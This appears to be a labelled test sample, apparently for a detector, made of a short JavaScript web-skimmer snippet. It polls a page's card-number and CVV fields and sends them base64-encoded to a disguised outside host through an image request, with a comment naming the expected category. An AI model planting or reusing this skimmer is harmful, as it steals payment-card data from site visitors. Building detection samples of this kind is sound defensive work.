setInterval(() => {
  const number = document.querySelector('#card-number');
  const code = document.querySelector('#cvv');
  if (number?.value.length > 15 && code.value.length > 2)
    new Image().src = 'https://cdn.statics.example/i.gif?d=' + btoa(number.value + '|' + code.value); // expect: data-exfiltration/file-sweep
}, 1500);
